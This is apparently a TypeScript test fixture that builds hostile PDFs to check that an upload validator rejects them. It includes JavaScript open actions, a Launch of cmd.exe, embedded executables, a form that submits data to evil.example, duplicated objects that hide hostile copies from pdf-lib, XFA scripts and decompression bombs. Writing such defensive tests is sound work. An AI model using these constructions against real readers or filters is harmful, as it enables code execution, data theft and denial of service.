import { createDeflate, deflateSync } from 'node:zlib';
import { onePageObjects, pdfFromObjects } from './multipart';

/**
 * PDFs that readers would let run code or open files, built by hand. Each
 * is otherwise a valid one-page document, so only what it carries can be the reason to refuse it.
 */
const ALERT = '/S /JavaScript /JS (app.alert\\(1\\))';

/** The page tree names one page `times` times: the measured bomb was 3.2 million, 19 MB. */
export function pageTreeBomb(times = 3_200_000) {
  return pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${'3 0 R '.repeat(times)}] /Count ${times} >>`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
  ]);
}

function withCatalogEntries(entries: string, ...extraObjects: string[]) {
  const [catalog, ...rest] = onePageObjects();
  return pdfFromObjects([catalog?.replace('>>', `${entries} >>`) ?? '', ...rest, ...extraObjects]);
}

export const HOSTILE_PDFS = {
  /** Document-level JavaScript: the `/JavaScript` name tree, run when the file opens. */
  javaScriptNameTree: withCatalogEntries(
    '/Names << /JavaScript << /Names [(start) 4 0 R] >> >>',
    `<< ${ALERT} >>`,
  ),
  /** JavaScript as the open action, its names written with `#xx` escapes (`/Java#53cript`). */
  openActionJavaScript: withCatalogEntries(
    '/OpenAction << /S /Java#53cript /J#53 (app.launchURL\\("https://evil.example"\\)) >>',
  ),
  /** A link on the page that starts a program. */
  launchAction: pdfFromObjects(
    onePageObjects(
      '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (cmd.exe) >> >>]',
    ),
  ),
  /** An `.exe` in the document's `/EmbeddedFiles` name tree. */
  embeddedExe: withCatalogEntries(
    '/Names << /EmbeddedFiles << /Names [(factuur.exe) 4 0 R] >> >>',
    '<< /Type /Filespec /F (factuur.exe) /UF (factuur.exe) /EF << /F 5 0 R >> >>',
    '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
  ),
  /** Flash or video in a RichMedia annotation. */
  richMedia: pdfFromObjects(
    onePageObjects(
      '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] /RichMediaContent << /Assets << /Names [] >> >> >>]',
    ),
  ),
  /** A link into a PDF embedded in this one (`/GoToE`). */
  goToEmbedded: pdfFromObjects(
    onePageObjects(
      '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /GoToE /T << /R /C /N (bijlage) >> /D [0 /Fit] >> >>]',
    ),
  ),
  /** A form whose button sends the form's data to a web address. */
  submitForm: withCatalogEntries(
    '/AcroForm << /Fields [4 0 R] >>',
    '<< /FT /Btn /T (verstuur) /Ff 65536 /A << /S /SubmitForm /F (https://evil.example/collect) >> >>',
  ),
  /** A form whose button reads field values from a file. */
  importData: withCatalogEntries(
    '/AcroForm << /Fields [4 0 R] >>',
    '<< /FT /Btn /T (lees) /Ff 65536 /A << /S /ImportData /F (gegevens.fdf) >> >>',
  ),
  /** A file-attachment annotation on the page. */
  fileAttachment: pdfFromObjects(
    onePageObjects(
      '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS << /Type /Filespec /F (x.exe) >> >>]',
    ),
  ),
};

/** Links to a web page and to the document's own page: allowed, as are the copies of one. */
export const LINKS_PDF = pdfFromObjects(
  [
    ...onePageObjects('/Annots [4 0 R 5 0 R]'),
    '<< /Type /Annot /Subtype /Link /Rect [0 0 300 50] /A << /S /URI /URI (https://example.nl/) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 60 300 110] /A << /S /GoTo /D [3 0 R /Fit] >> >>',
  ],
  '',
  // An object written twice is not a reason by itself: both copies are clean here.
  {
    4: '<< /Type /Annot /Subtype /Link /Rect [0 0 300 50] /A << /S /URI /URI (https://example.org/) >> >>',
  },
);

/** An open action that only shows the first page fitted: no code, so it passes. */
export const HARMLESS_OPEN_ACTION = withCatalogEntries('/OpenAction [3 0 R /Fit]');

/** A stream object's text: the dictionary's entries, `/Length`, and the bytes. */
export function streamObject(entries: string, data: Buffer) {
  return `<< ${entries} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;
}

/**
 * A PDF 1.5 whose `inStream` objects live in one compressed object stream, which a reader
 * finds through a cross-reference stream; `plain` objects are written as usual (object 1 is
 * the catalog, wherever it is). `laterCopies` follow as in `pdfFromObjects`.
 */
export function pdfWithObjectStream({
  plain,
  inStream,
  laterCopies = {},
}: {
  plain: { [objectNumber: number]: string };
  inStream: { [objectNumber: number]: string };
  laterCopies?: { [objectNumber: number]: string };
}) {
  const numbers = [...Object.keys(plain), ...Object.keys(inStream)].map(Number);
  const objectStreamNumber = Math.max(...numbers) + 1;
  const xrefNumber = objectStreamNumber + 1;
  const streamed = Object.entries(inStream);
  let body = '';
  const header: string[] = [];
  for (const [number, object] of streamed) {
    header.push(`${number} ${body.length}`);
    body += `${object}\n`;
  }
  const headerText = `${header.join(' ')}\n`;
  const packed = deflateSync(Buffer.from(headerText + body, 'latin1'));

  const chunks: Buffer[] = [Buffer.from('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = chunks[0]?.length ?? 0;
  const write = (text: string) => {
    const bytes = Buffer.from(text, 'latin1');
    chunks.push(bytes);
    length += bytes.length;
  };
  const offsets = new Map<number, number>();
  for (const [number, object] of Object.entries(plain)) {
    offsets.set(Number(number), length);
    write(`${number} 0 obj\n${object}\nendobj\n`);
  }
  offsets.set(objectStreamNumber, length);
  write(
    `${objectStreamNumber} 0 obj\n${streamObject(
      `/Type /ObjStm /N ${streamed.length} /First ${headerText.length} /Filter /FlateDecode`,
      packed,
    )}\nendobj\n`,
  );
  for (const [number, object] of Object.entries(laterCopies))
    write(`${number} 0 obj\n${object}\nendobj\n`);

  const xrefOffset = length;
  offsets.set(xrefNumber, xrefOffset);
  const row = (type: number, field2: number, field3: number) => {
    const bytes = Buffer.alloc(7);
    bytes.writeUInt8(type, 0);
    bytes.writeUInt32BE(field2, 1);
    bytes.writeUInt16BE(field3, 5);
    return bytes;
  };
  const rows = [row(0, 0, 65535)];
  for (let number = 1; number <= xrefNumber; number++) {
    const offset = offsets.get(number);
    const index = streamed.findIndex(([streamedNumber]) => Number(streamedNumber) === number);
    if (offset !== undefined) rows.push(row(1, offset, 0));
    else if (index >= 0) rows.push(row(2, objectStreamNumber, index));
    else rows.push(row(0, 0, 0));
  }
  write(
    `${xrefNumber} 0 obj\n${streamObject(
      `/Type /XRef /Size ${xrefNumber + 1} /W [1 4 2] /Root 1 0 R`,
      Buffer.concat(rows),
    )}\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`,
  );
  return Buffer.concat(chunks);
}

/** JavaScript that runs when the file opens: a script of the document and the open action. */
const DOCUMENT_SCRIPT = `/Names << /JavaScript << /Names [(start) << ${ALERT} >>] >> >> /OpenAction << ${ALERT} >>`;
const CLEAN_CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const EVIL_EXE = Buffer.from('MZ evil.exe', 'latin1');
const XFA_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1"><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>',
  'latin1',
);

/**
 * Files from a penetration test: each file defines an object twice, a
 * harmful first copy that the cross-reference table points at, so readers open it, and a clean
 * later copy, which pdf-lib keeps; and an XFA form with a script.
 */
export const SHADOWED_PDFS = {
  /** The catalog twice: the first runs JavaScript when the file opens. */
  catalogJavaScript: pdfFromObjects(
    [`<< /Type /Catalog /Pages 2 0 R ${DOCUMENT_SCRIPT} >>`, ...onePageObjects().slice(1)],
    '',
    { 1: CLEAN_CATALOG },
  ),
  /** A link annotation twice: the first starts a program, the second opens a web page. */
  launchAction: pdfFromObjects(
    [
      ...onePageObjects('/Annots [4 0 R]'),
      '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (evil.exe) >> >>',
    ],
    '',
    {
      4: '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://example.nl/) >> >>',
    },
  ),
  /** The catalog and a stream twice: the first copies embed `evil.exe`, the later ones are plain. */
  embeddedExe: pdfFromObjects(
    [
      '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 4 0 R >> >>] >> >> >>',
      ...onePageObjects().slice(1),
      streamObject('/Type /EmbeddedFile', EVIL_EXE),
    ],
    '',
    { 1: CLEAN_CATALOG, 4: streamObject('', Buffer.from('0 0 m', 'latin1')) },
  ),
  /** The catalog with JavaScript inside a compressed object stream, a clean one after it. */
  objectStreamJavaScript: pdfWithObjectStream({
    plain: { 2: onePageObjects()[1] ?? '', 3: onePageObjects()[2] ?? '' },
    inStream: { 1: `<< /Type /Catalog /Pages 2 0 R ${DOCUMENT_SCRIPT} >>` },
    laterCopies: { 1: CLEAN_CATALOG },
  }),
};

/** An XFA form whose template runs a script when the form opens (its packet compressed). */
export const XFA_SCRIPT_PDF = pdfFromObjects([
  '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>',
  ...onePageObjects().slice(1),
  streamObject('/Filter /FlateDecode', deflateSync(XFA_WITH_SCRIPT)),
]);

/**
 * A one-page PDF with object streams that inflate to `inflatedMegabytes` each (one small object,
 * then spaces), deflated as they are written, so the test never holds the inflated bytes: the
 * penetration test's 0.78 MB file inflated to 768 MB.
 */
export async function inflatingPdf(inflatedMegabytes: number[]) {
  const streams: string[] = [];
  for (const [index, megabytes] of inflatedMegabytes.entries()) {
    const header = `${100 + index} 0\n`;
    const start = Buffer.from(`${header}<< /Vulling ${index} >>`, 'latin1');
    streams.push(
      streamObject(
        `/Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode`,
        await deflatedSpaces(start, megabytes * 1024 * 1024),
      ),
    );
  }
  return pdfFromObjects([...onePageObjects(), ...streams]);
}

async function deflatedSpaces(start: Buffer, totalBytes: number) {
  const deflate = createDeflate({ level: 9 });
  const output: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => output.push(chunk));
  const ended = new Promise((resolve) => deflate.on('end', resolve));
  deflate.write(start);
  const spaces = Buffer.alloc(1024 * 1024, 0x20);
  for (let written = start.length; written < totalBytes; written += spaces.length) {
    const part = spaces.subarray(0, Math.min(spaces.length, totalBytes - written));
    if (!deflate.write(part)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await ended;
  return Buffer.concat(output);
}
